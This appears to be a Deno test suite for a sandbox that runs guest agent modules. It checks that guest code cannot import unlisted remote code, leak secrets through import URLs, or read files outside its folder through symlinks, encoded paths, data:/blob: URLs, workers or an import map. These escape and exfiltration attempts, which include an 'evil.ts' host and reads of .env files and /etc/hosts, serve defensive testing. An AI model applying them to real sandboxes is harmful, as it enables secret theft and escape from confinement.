/**
 * A guest tries to carry something out, or code in, by importing.
 */
import { assert, assertEquals } from "@std/assert";
import { code, RecordingServer, redirect } from "./recording_server.ts";
import { failsWith, TestGuest, withWitness } from "./test_guest.ts";

Deno.test("a guest without grants can import nothing it was not started with", async () => {
  await using server = new RecordingServer({ "/s3cr3t.ts": code("export default 1;") });
  await withWitness({}, async (guest) => {
    await guest.isRefused(
      /Requires (?:import|read) access|not cached|not found|Cannot find|not in import map|Not a dependency|blob URL|not a dependency|bare specifier|cached-only|Could not find|Import "/i,
      server.url,
      {
        http: (url) => import(`${url}/s3cr3t.ts`),
        "http with a query": (url) => import(`${url}/a.ts?secret=s3cr3t`),
        json: (url) => import(`${url}/s3cr3t`, { with: { type: "json" } }),
        "through data:": (url) => import(`data:text/javascript,import "${url}/s3cr3t.ts"`),
        "through blob:": async (url) => {
          const blob = new Blob([`import "${url}/s3cr3t.ts"`], { type: "text/javascript" });
          const made = URL.createObjectURL(blob);
          try {
            return await import(made);
          } finally {
            URL.revokeObjectURL(made);
          }
        },
        "npm:": () => import(`npm:${"s3cr3t"}-package-of-nobody`),
        "npm: of the host's own": () => import(`npm:${"zod"}`),
        "jsr:": () => import(`jsr:@${"s3cr3t"}/package`),
        "https:": () => import(`https://${"s3cr3t"}.example.com/mod.ts`),
        "a bare name": () => import(`${"zod"}`),
        "a package of the host's configuration": () => import(`${"@std"}/assert`),
        "node require": async () => {
          const { createRequire } = await import("node:module");
          return createRequire("file:///")(`${"zod"}`);
        },
        "a worker from data:": (url) =>
          new Promise((resolve, reject) => {
            const worker = new Worker(
              `data:text/javascript,import("${url}/s3cr3t.ts").then(() => postMessage(1))`,
              { type: "module" },
            );
            worker.onmessage = resolve;
            worker.onerror = (event) => {
              event.preventDefault();
              worker.terminate();
              reject(new Error(`Requires import access ${event.message}`));
            };
          }),
      },
    );
    // What it makes up itself it could run anyway.
    assertEquals(
      await guest.value(async () =>
        (await import(`data:text/javascript,export default 7`)).default
      ),
      7,
    );
  });
  assertEquals(server.requests, []);
});

Deno.test("what code says it will import later is not fetched without a grant", async () => {
  await using server = new RecordingServer({ "/later.ts": code("export default 1;") });
  await using other = new RecordingServer();
  const folder = await Deno.makeTempDir();
  try {
    await Deno.writeTextFile(
      `${folder}/module.ts`,
      `export const later = {
        http: () => import("${server.url}/later.ts?s3cr3t"),
        npm: () => import("npm:s3cr3t-package-of-nobody@1"),
        jsr: () => import("jsr:@s3cr3t/package@1"),
      };
      export const agent = { async *run({ messages }) {
        const { text } = messages[0].content[0];
        yield { type: "text-start" };
        yield { type: "text-delta", text: await later[text]().then(() => "worked", (e) => e.message) };
        yield { type: "text-end" };
        yield { type: "finish", reason: "stop" };
      } };`,
    );
    await using guest = await TestGuest.start({ specifier: "module.ts", folder });
    for (const kind of ["http", "npm", "jsr"]) {
      const told = await guest.asks(kind);
      assert(/access|not cached|cached-only|not found/i.test(told), told);
    }
  } finally {
    await Deno.remove(folder, { recursive: true });
  }
  assertEquals([server.requests, other.requests], [[], []]);
});

Deno.test("remote code may not import local files, nor from where it does not come from", async () => {
  const folder = await Deno.makeTempDir();
  try {
    await Deno.writeTextFile(`${folder}/secret.ts`, `export default "s3cr3t";`);
    await using other = new RecordingServer({ "/evil.ts": code("export default 1;") });
    await using server = new RecordingServer({
      "/file.ts": code(`import x from "file://${folder}/secret.ts"; export const agent = x;`),
      "/other.ts": code(`import x from "${other.url}/evil.ts"; export const agent = x;`),
      "/away.ts": redirect(`${other.url}/evil.ts`),
      "/imports-away.ts": code(`import x from "./away.ts"; export const agent = x;`),
      "/data.ts": code(
        `import x from "data:text/javascript,export * from '${other.url}/evil.ts'"; export const agent = x;`,
      ),
    });
    for (const path of ["file", "other", "away", "imports-away", "data"]) {
      await failsWith(
        TestGuest.start({ specifier: `${server.url}/${path}.ts` }),
        new RegExp("^SetupError: Cannot load "),
      );
    }
    assertEquals(other.requests, []);
  } finally {
    await Deno.remove(folder, { recursive: true });
  }
});

/** A module that carries `value` out as its agent. */
function carrying(text: string): string {
  return `${text}
  export const agent = { async *run() {
    yield { type: "text-start" };
    yield { type: "text-delta", text: String(value) };
    yield { type: "text-end" };
    yield { type: "finish", reason: "stop" };
  } };`;
}

/** A folder with a module's folder in it, and a secret beside that. */
async function secretBeside() {
  const path = await Deno.realPath(await Deno.makeTempDir());
  await Deno.mkdir(`${path}/own/parts`, { recursive: true });
  await Promise.all([
    Deno.writeTextFile(`${path}/secret.txt`, "s3cr3t"),
    Deno.writeTextFile(`${path}/secret.json`, `"s3cr3t"`),
    Deno.writeTextFile(`${path}/secret.ts`, `export default "s3cr3t";`),
    Deno.writeTextFile(`${path}/own/own.txt`, "own"),
    Deno.symlink("../secret.txt", `${path}/own/link.txt`),
  ]);
  return { path, [Symbol.asyncDispose]: () => Deno.remove(path, { recursive: true }) };
}

/** Code that gets at a file by importing it, from wherever it is. */
function waysTo(path: string): Readonly<Record<string, string>> {
  const data = (text: string) => `data:text/javascript,${encodeURIComponent(text)}`;
  const text = `import value from "file://${path}/secret.txt" with { type: "text" };`;
  return {
    text,
    json: `import value from "file://${path}/secret.json" with { type: "json" };`,
    bytes: `import value from "file://${path}/secret.txt" with { type: "bytes" };`,
    code: `import value from "file://${path}/secret.ts";`,
    "an escaped path":
      `import value from "file://${path}/own/..%2fsecret.txt" with { type: "text" };`,
    "through data:": `import value from ${JSON.stringify(data(`${text} export default value;`))};`,
    "through data: twice": `import value from ${
      JSON.stringify(
        data(`export { default } from ${JSON.stringify(data(`${text} export default value;`))};`),
      )
    };`,
  };
}

Deno.test("code imports no file outside its folder, wherever it is and whichever way", async () => {
  await using folder = await secretBeside();
  const { path } = folder;
  const ways = waysTo(path);
  await using server = new RecordingServer(
    Object.fromEntries(
      Object.entries(ways).map(([, text], index) => [`/${index}.ts`, code(carrying(text))]),
    ),
  );
  const local = {
    ...ways,
    "a link": `import value from "./link.txt" with { type: "text" };`,
    relative: `import value from "../secret.txt" with { type: "text" };`,
    "the operator's variables": `import value from "./.env" with { type: "text" };`,
    "what begins with a dot": `import value from "./.keys/a.json" with { type: "json" };`,
  };
  await Deno.writeTextFile(`${path}/own/.env`, "KEY=s3cr3t,");
  await Deno.mkdir(`${path}/own/.keys`);
  await Deno.writeTextFile(`${path}/own/.keys/a.json`, '"s3cr3t,"');
  const wrong: string[] = [];
  const tries = async (way: string, specifier: string) => {
    const error = await TestGuest.start({ specifier, folder: `${path}/own` }).then(
      async (guest) => {
        await using started = guest;
        return new Error(`started and says ${await started.asks("Hello")}`);
      },
      (error) => error as Error,
    );
    if (error.name !== "SetupError" || !/^Cannot load /.test(error.message)) {
      wrong.push(`${way}: ${error.message}`);
    }
    assert(!error.message.includes("s3cr3t,"), error.message);
  };
  for (const [index, [way, text]] of Object.entries(local).entries()) {
    await Deno.writeTextFile(`${path}/own/module${index}.ts`, carrying(text));
    await tries(way, `module${index}.ts`);
  }
  for (const [index, [way, text]] of Object.entries(ways).entries()) {
    await tries(`${way}, remote`, `${server.url}/${index}.ts`);
    const own = encodeURIComponent(carrying(text));
    await tries(`${way}, data:`, `data:application/javascript,${own}`);
  }
  assertEquals(wrong, []);
});

Deno.test("code that says it will import a file outside its folder later does not get it", async () => {
  await using folder = await secretBeside();
  const { path } = folder;
  await Deno.writeTextFile(
    `${path}/own/module.ts`,
    carrying(
      `const value = await import("../secret.txt", { with: { type: "text" } })
        .then((it) => it.default, (error) => error.message);`,
    ),
  );
  await using guest = await TestGuest.start({ specifier: "module.ts", folder: `${path}/own` });
  const told = await guest.asks("Hello");
  assert(/Requires read access/.test(told), told);
});

Deno.test("code imports files of its folder, files it may read, and packages of its configuration", async () => {
  await using folder = await secretBeside();
  const { path } = folder;
  const says = async (text: string, grants: readonly string[] = []) => {
    await Deno.writeTextFile(`${path}/own/module.ts`, carrying(text));
    await using guest = await TestGuest.start({
      specifier: "module.ts",
      folder: `${path}/own`,
      grants,
    });
    return await guest.asks("Hello");
  };
  assertEquals(await says(`import value from "./own.txt" with { type: "text" };`), "own");
  const { bytes: _, ...ways } = waysTo(path);
  for (const text of Object.values(ways)) {
    assert((await says(text, [`read=${path}`])).length > 0);
  }
  const mapped = `import value from "package";`;
  await Deno.mkdir(`${path}/package/parts`, { recursive: true });
  await Promise.all([
    Deno.writeTextFile(`${path}/own/deno.json`, `{"imports":{"package":"../package/mod.ts"}}`),
    Deno.writeTextFile(`${path}/package/mod.ts`, `export { default } from "./parts/part.ts";`),
    Deno.writeTextFile(`${path}/package/parts/part.ts`, `export default "mapped";`),
  ]);
  assertEquals(await says(mapped), "mapped");
  // Where names lead is code, and no way to anything else.
  await Deno.writeTextFile(`${path}/own/deno.json`, `{"imports":{"package":"../secret.txt"}}`);
  await failsWith(
    says(`import value from "package" with { type: "text" };`),
    /^SetupError: Cannot load ".*secret.txt": it is none of the module's own files; grant read=.*secret.txt to allow it$/,
  );
});

Deno.test("remote code imports at run time from its own place what it said, and nothing else", async () => {
  await using other = new RecordingServer({ "/evil.ts": code("export default 1;") });
  const obedient = await Deno.readTextFile(new URL("modules/obedient.ts", import.meta.url));
  await using server = new RecordingServer({
    "/agent.ts": code(
      `${obedient}\nObject.assign(globalThis, { said: () => import("./said.ts") });`,
    ),
    "/said.ts": code("export default 5;"),
    "/unsaid.ts": code("export default 6;"),
  });
  await using guest = await TestGuest.start({ specifier: `${server.url}/agent.ts` });
  const before = [...server.requests];
  assertEquals(
    await guest.value(async () =>
      (await (globalThis as unknown as { said(): Promise<{ default: number }> }).said()).default
    ),
    5,
  );
  await guest.isRefused(/Requires (?:import|read) access|not cached|cached-only|not found/i, {
    url: server.url,
    other: other.url,
  }, {
    "a neighbour that it did not name": ({ url }) => import(`${url}/unsaid.ts`),
    "itself with a secret": ({ url }) => import(`${url}/agent.ts?s3cr3t`),
    "another host": ({ other }) => import(`${other}/evil.ts`),
    "a file": () => import("file:///etc/hosts", { with: { type: "json" } }),
  });
  assertEquals([server.requests, other.requests], [before, []]);
});
